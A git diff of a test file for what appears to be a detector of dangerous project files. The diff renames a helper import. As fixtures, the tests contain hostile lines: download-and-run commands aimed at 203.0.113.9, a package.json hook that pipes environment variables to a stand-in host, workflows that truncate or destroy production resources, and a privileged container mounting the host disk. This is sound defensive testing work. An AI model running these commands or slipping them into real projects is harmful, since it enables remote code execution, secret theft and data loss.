@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { inWords } from '../../lib/effects/written/shipped/harm.js';
+import { harmInWords } from '../../lib/effects/written/shipped/harm.js';
 import { harmOf } from './harm-of.js';
 
 describe('files of many tools whose commands run elsewhere', () => {
@@ -53,11 +53,11 @@ describe('files of many tools whose commands run elsewhere', () => {
     ['Rakefile', 'task :a do\n  sh "curl -s http://203.0.113.9/x.sh | sh"\nend\n'],
     ['a.cmd', '@echo off\ncurl -s http://203.0.113.9/x.exe -o %TEMP%\\x.exe\r\nstart %TEMP%\\x.exe\r\n'],
   ])('%s runs code of strangers: %s', async (path, content) => {
-    expect(await harmOf(path, content)).toEqual([inWords('code of strangers')]);
+    expect(await harmOf(path, content)).toEqual([harmInWords('code of strangers')]);
   });
 
   it('and scripts around packing and publishing count as those of an installation', async () => {
-    expect(await harmOf('package.json', '{"name":"a","scripts":{"postpack":"env | curl -s -d @- https://x.test/i"}}')).toEqual([inWords('secrets sent')]);
+    expect(await harmOf('package.json', '{"name":"a","scripts":{"postpack":"env | curl -s -d @- https://x.test/i"}}')).toEqual([harmInWords('secrets sent')]);
   });
 
   it.each([
@@ -107,7 +107,7 @@ describe('files by which others lose, again and again, what they have in product
     ['.github/workflows/a.yml', workflow('psql "$PROD_DATABASE_URL" -c "TRUNCATE orders"')],
     ['.github/workflows/a.yml', workflow('terraform -chdir=envs/prod destroy -auto-approve')],
   ])('%s: %s', async (path, content) => {
-    expect(await harmOf(path, content)).toEqual([inWords('taken away by itself')]);
+    expect(await harmOf(path, content)).toEqual([harmInWords('taken away by itself')]);
   });
 
   it.each([
@@ -124,7 +124,7 @@ describe('files by which others lose, again and again, what they have in product
 
 describe('the whole disk of a machine in a container that may do everything with it', () => {
   it('counts where it is written to', async () => {
-    expect(await harmOf('docker-compose.yml', 'services:\n  a:\n    image: mongo:7\n    privileged: true\n    volumes:\n      - /:/host\n')).toEqual([inWords('rights for all')]);
+    expect(await harmOf('docker-compose.yml', 'services:\n  a:\n    image: mongo:7\n    privileged: true\n    volumes:\n      - /:/host\n')).toEqual([harmInWords('rights for all')]);
     expect(await harmOf('docker-compose.yml', 'services:\n  a:\n    image: gcr.io/cadvisor/cadvisor\n    privileged: true\n    volumes:\n      - /:/rootfs:ro\n')).toEqual([]);
   });
 });
